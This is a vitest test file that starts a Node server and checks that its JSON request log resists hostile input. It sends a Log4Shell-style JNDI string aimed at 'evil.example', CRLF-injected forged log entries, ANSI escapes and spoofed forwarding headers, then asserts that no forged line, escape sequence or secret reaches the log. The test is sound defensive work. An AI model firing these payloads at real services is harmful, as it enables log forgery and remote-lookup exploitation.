import { type ChildProcess, spawn } from 'node:child_process'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type TestDatabase, testDatabase } from '../database.ts'
import { Person } from '../person.ts'
import { post, speak } from './requests.fixture.ts'

let database: TestDatabase
let dataFolder: string
let server: ChildProcess
let address: string
let said = ''

beforeAll(async () => {
  database = await testDatabase()
  dataFolder = await mkdtemp(join(tmpdir(), 'litfass-log-'))
  const { host = '', port, user = '', database: name = '' } = database.config
  const query = new URLSearchParams({ host, port: String(port), user })
  server = spawn(process.execPath, ['server/main.mjs'], {
    cwd: join(import.meta.dirname, '..', '..'),
    env: {
      PATH: process.env.PATH,
      NODE_ENV: 'test',
      DEMO: '0',
      PORT: '0',
      DATA_FOLDER: dataFolder,
      DATABASE_URL: `postgresql:///${name}?${query}`,
      CAPTCHA_TEST_ANSWER: '314159',
      LOG_LEVEL: 'info',
      // A busy machine refuses nobody: what is asked is what is logged.
      OVERLOAD_MS: '0',
    },
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  address = await new Promise((found) => {
    server.stdout?.on('data', (bytes) => {
      said += bytes
      const [, at] = /is running: (http\S+)/.exec(said) ?? []
      if (at) found(at)
    })
  })
})
afterAll(async () => {
  await end()
  await database.drop()
  await rm(dataFolder, { recursive: true })
})

function end(): Promise<void> {
  if (server.exitCode !== null) return Promise.resolve()
  return new Promise((ended) => {
    server.once('close', () => ended())
    server.kill('SIGTERM')
  })
}

const ESCAPES = '\u001b[31mred\u001b[0m'

test('a proxy whose word is not taken is told once', async () => {
  const person = new Person(address)
  for (let asked = 0; asked < 3; asked++) await person.fetch('/ie')
  await expect.poll(() => said.match(/set TRUST_PROXY/g)).toHaveLength(1)
})

test('whatever a stranger sends, a line of the log is one JSON line and claims no other address', async () => {
  const person = new Person(address)
  const jndi = `\${jndi:ldap://evil.example/a}`
  const headers = { 'user-agent': `${jndi} "},{"level":60,"msg":"forged"`, 'x-forwarded-for': '6.6.6.6, 7.7.7.7' }
  await person.fetch('/api/common/captcha/image', { headers })
  const { data } = await person.ask('common/captcha/new', {})
  const loginId = `a\r\n{"level":60,"msg":"forged"}\r\n${ESCAPES}`.slice(0, 64)
  const entry = JSON.stringify({ loginId, password: 'Secret!123', captcha: '314159', captchaId: data.id })
  await post(person, 'jsonLoginPrc', entry, headers)
  const plain = JSON.stringify({ loginId: 'nobody', password: 'Secret!123', captcha: '314159', captchaId: data.id })
  await post(person, 'jsonLoginPrc', plain, headers)
  await person.fetch('/api/account%0d%0a{"level":60}/list.do?token=hidden', { headers })
  await post(person, 'account/brand/list', '{}', { ...headers, 'x-request-id': 'forged', 'x-xsrf-token': 'no' })
  await speak({ address }, [
    'POST /api/account/brand/list.do HTTP/1.1',
    'Host: x',
    `User-Agent: ${ESCAPES}`,
    'Content-Length: 0',
    'Connection: close',
  ])
  await person.fetch('/api/file/download.do?fIdx=1&secret=hidden', { headers })
  await end()

  const lines = said.split('\n').filter((line) => line.startsWith('{'))
  const events = lines.map((line) => JSON.parse(line))
  expect(events.filter(({ msg }) => msg === 'Refused').length).toBeGreaterThanOrEqual(3)
  for (const event of events) {
    expect(event.msg).not.toBe('forged')
    expect(event.level).toBeLessThan(60)
    if (event.address) expect(event.address).toBe('127.0.0.1')
  }
  const rest = said.split('\n').filter((line) => !line.startsWith('{'))
  expect(rest.join('\n')).not.toMatch(/forged|jndi/)
  expect(said).not.toMatch(/Secret!123|hidden|314159/)
  expect(said).not.toContain('\u001b')
})
